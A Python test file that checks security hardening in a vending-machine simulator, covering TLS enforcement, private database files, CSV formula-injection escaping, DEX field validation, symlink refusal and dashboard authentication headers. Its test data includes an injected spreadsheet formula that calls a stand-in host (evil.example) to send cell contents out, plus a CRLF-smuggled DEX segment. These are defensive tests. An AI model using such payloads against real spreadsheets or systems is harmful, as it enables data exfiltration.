"""A deployment's fence (issue 29): no silent plaintext, private files, safe exports, a hardened dashboard."""

from __future__ import annotations

import io
import json
import os
import re
import stat
import subprocess
import threading

import pytest

from firmware.errors import VendingError
from firmware.reporting.mqtt import BrokerAddress
from simulator.backends.store import SqliteReportStore
from simulator.cli.reporting import _loopback
from simulator.dashboard.app import create_app
from simulator.dashboard.board import Board, _commands
from simulator.dashboard.server import DashboardServer
from simulator.safe_output import csv_cell, dex_field, replace_file, write_csv
from tests.conftest import VENDING
from tests.simulator.dashboard.test_dashboard_http import fetch


def vending(*args: str, cwd=None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([VENDING, *args], capture_output=True, text=True, timeout=120, cwd=cwd)


def test_tls_options_with_a_plaintext_url_are_refused_naming_the_scheme_to_use():
    with pytest.raises(VendingError, match=r"--ca need TLS; use mqtts://broker.school:8883 \(mqtt:// is plaintext\)"):
        BrokerAddress.parse("mqtt://broker.school:1883", ca_file="ca.crt")
    out = vending("cmd", "send", "restock", "A1=1", "--machine", "M-1", "--broker", "mqtt://127.0.0.1:1883",
                  "--ca", "ca.crt", "--cert", "c.crt", "--cert-key", "c.key")  # fmt: skip
    assert out.returncode == 2 and "need TLS; use mqtts://127.0.0.1:8883" in out.stderr


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("mqtt://127.0.0.1:70000", "the port is a whole number from 1 to 65535"),  # a traceback, exit 70
        ("mqtt://127.0.0.1:abc", "the port is a whole number from 1 to 65535"),  # a traceback, exit 70
        ("mqtt://127.0.0.1:0", "the port is a whole number from 1 to 65535"),  # taken as 1883
        ("mqtt://127.0.0.1:", "the port is a whole number from 1 to 65535"),
        ("mqtt://127.0.0.1:1883/vending", "nothing after it"),  # dropped without a word
        ("mqtts://127.0.0.1:8883?ca=ca.crt", "nothing after it"),
    ],
)
def test_a_broker_url_s_port_and_tail_are_checked(url, reason):
    with pytest.raises(VendingError, match=re.escape(f"broker URL {url!r}: ") + ".*" + re.escape(reason)):
        BrokerAddress.parse(url)
    out = vending("cmd", "send", "restock", "A1=1", "--machine", "M-1", "--broker", url)
    assert out.returncode == 2 and reason in out.stderr and "Traceback" not in out.stderr, out.stderr
    assert BrokerAddress.parse("mqtt://127.0.0.1:1883/").port == 1883, "a bare slash is no path"
    assert BrokerAddress.parse("mqtt://127.0.0.1").port == 1883 and BrokerAddress.parse("mqtts://h").port == 8883


def test_backend_databases_and_their_wal_are_private_from_creation(tmp_path):
    old = os.umask(0o022)
    try:
        store = SqliteReportStore(tmp_path / "issuer.db")
        store.conn.execute("CREATE TABLE probe (x)")
        store.conn.execute("INSERT INTO probe VALUES (1)")
        files = [p for p in tmp_path.iterdir() if p.name.startswith("issuer.db")]
        assert {p.name for p in files} >= {"issuer.db", "issuer.db-wal"}
        assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in files), {
            p.name: oct(p.stat().st_mode) for p in files
        }
        store.conn.close()
    finally:
        os.umask(old)


def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text():
    out = io.StringIO()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"milk")'
    write_csv(out, ["product", "items"], [[evil, 3], ["+1", -2], ["@SUM(A1)", "milk"]])
    lines = out.getvalue().splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'+1,-2" and lines[3] == "'@SUM(A1),milk"
    assert csv_cell(-5) == -5 and csv_cell("milk") == "milk"


def test_dex_fields_cannot_forge_segments(tmp_path):
    with pytest.raises(VendingError, match="--location: a DEX field may not contain"):
        dex_field("SCHOOL*X\r\nVA1*999999*9*0*0", "--location")
    with pytest.raises(VendingError, match="slot A1 product id: a DEX field may not contain '\\*'"):
        dex_field("milk*~", "slot A1 product id")
    with pytest.raises(VendingError, match="characters other than printable ASCII"):
        dex_field("低脂milk", "slot A1 product id")  # no EVA-DTS escape exists: refused, never written as '?'
    out = vending("export", "dex", "--state-dir", str(tmp_path), "--location", "SCHOOL*X\r\nVA1*9")
    assert out.returncode == 2 and "a DEX field may not contain" in out.stderr


def test_init_never_follows_a_planted_symlink(tmp_path):
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    folder = tmp_path / "x"
    folder.mkdir()
    (folder / "machine.yaml").symlink_to(target)
    out = vending("init", str(folder), "--force")
    assert out.returncode == 2 and "is a symlink; nothing is written through one" in out.stderr
    assert target.read_text() == "keep me"


def test_the_dashboard_answers_any_token_without_an_error_and_sends_its_security_headers():
    server = DashboardServer(create_app(lambda: Board(day=None), "secret-token"), "127.0.0.1", 0).start()
    try:
        for token in ("wrong", "%C5%A7%C3%B8k%C3%A9%C3%B1", "%FF%FE"):
            assert fetch(f"{server.url}/?token={token}")[0] == 401, token
        status, headers, _ = fetch(f"{server.url}/", cookie="\u0167\u00f8k\u00e9\u00f1".encode().decode("latin-1"))
        assert status == 401
        headers = {key.lower(): value for key, value in headers.items()}
        assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
    finally:
        server.stop()


def test_twenty_open_streams_read_the_board_once_an_interval_not_twenty_times():
    """Each event stream read the vendor's database every interval on its own: twenty tabs (or a script holding
    twenty streams) were twenty reads an interval, in the process that stores the machines' reports."""
    import socket
    import threading
    import time

    interval = 0.1
    reads: list[float] = []

    def read() -> Board:
        reads.append(time.monotonic())
        return Board(day=None)

    server = DashboardServer(create_app(read, "secret-token", interval_s=interval), "127.0.0.1", 0).start()
    streams = []
    try:
        for _ in range(20):
            stream = socket.create_connection(("127.0.0.1", server.port), timeout=10)
            stream.sendall(b"GET /events HTTP/1.1\r\nHost: x\r\nCookie: vending_dashboard=secret-token\r\n\r\n")
            streams.append(stream)
        for stream in streams:  # every stream is served: its first board arrives
            received = b""
            while b"event: " not in received:
                chunk = stream.recv(65536)
                assert chunk, f"the stream ended: {received!r}"
                received += chunk
        started = len(reads)
        threading.Event().wait(1.0)
        window = reads[started:]
    finally:
        for stream in streams:
            stream.close()
        server.stop()
    assert window, "the streams went on reading"
    # one read per interval whoever asks (the cache's rule), where each stream's own reads made about 20 each
    span = window[-1] - window[0]
    assert len(window) <= span / interval + 2, f"{len(window)} reads in {span:.2f} s"


def test_the_dashboard_shows_only_real_command_names_and_warns_beyond_loopback():
    class Store:
        def execute(self, sql, params=()):
            forged = {"command": "URGENT: call 0912-000-000", "ok": False, "reason": "unknown command", "time": "t"}
            real = {"command": "restock", "ok": True, "reason": None, "time": "t"}
            return [("M-1", json.dumps(forged)), ("M-1", json.dumps(real))]

        def json_field(self, name):
            return f"json_extract(payload, '$.{name}')"

    shown = _commands(Store())
    assert [row.command for row in shown] == ["(unknown command topic)", "restock"]
    assert not any("0912" in str(row) for row in shown)
    assert _loopback("127.0.0.1") and _loopback("::1") and _loopback("localhost") and not _loopback("0.0.0.0")


def test_two_writers_of_one_file_each_replace_it_whole(tmp_path):
    """With one fixed temporary name the second writer removed the first's, the first renamed the second's
    half-written file into place, and the second failed (FileNotFoundError): 19 of 80 writes here."""
    path, payloads = tmp_path / "card.mfd", [bytes([65 + n]) * 1_000_000 for n in range(2)]
    failures: list[BaseException] = []
    seen: list[bytes] = []
    done = threading.Event()

    def write(payload: bytes) -> None:
        for _ in range(40):
            try:
                replace_file(path, payload)
            except BaseException as exc:  # noqa: BLE001 - counted, then asserted on
                failures.append(exc)

    def read() -> None:
        while not done.is_set():
            if path.exists():
                seen.append(path.read_bytes())

    reader = threading.Thread(target=read)
    writers = [threading.Thread(target=write, args=(payload,)) for payload in payloads]
    for thread in (reader, *writers):
        thread.start()
    for thread in writers:
        thread.join()
    done.set()
    reader.join()
    assert not failures, failures[:2]
    assert seen and all(content in payloads for content in seen), "a reader saw a mix"
    assert path.read_bytes() in payloads and [p.name for p in tmp_path.iterdir()] == ["card.mfd"], "no temporary left"
